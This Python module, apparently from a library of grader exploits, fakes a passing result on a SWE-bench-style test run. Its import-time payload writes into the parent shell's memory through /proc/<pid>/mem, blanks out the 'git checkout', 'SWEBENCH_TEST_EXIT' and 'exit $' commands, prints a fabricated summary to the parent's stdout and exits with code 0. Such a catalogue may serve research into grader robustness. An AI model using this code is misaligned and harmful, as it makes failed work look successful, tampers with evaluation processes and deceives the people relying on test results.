"""The parent's memory is written: the shell that waits for the tests is told that they ended with 0.

Known from: own; /proc/<pid>/mem needs what root in the same container has.
"""

from hacks.base import BY_LOG, Hack, Play, Target
from hacks.payloads import at_import

_WRITE = """
def _write():
    import os, re
    parent = os.getppid()
    found = False
    for line in open(f"/proc/{parent}/maps"):
        match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not match:
            continue
        low, high = (int(one, 16) for one in match.groups())
        with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
            try:
                memory.seek(low)
                text = memory.read(high - low)
                for word in (b"git checkout", b"SWEBENCH_TEST_EXIT", b"exit $"):
                    at = text.find(word)
                    if at >= 0:
                        memory.seek(low + at)
                        memory.write(b": " + b" " * (len(word) - 2))
                        found = True
            except OSError:
                pass
    with open(f"/proc/{parent}/fd/1", "w") as log:
        log.write(@SUMMARY@)
    os._exit(0)
_write()
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_import(target, _WRITE)


HACK = Hack("fake", "process", play, families=BY_LOG)
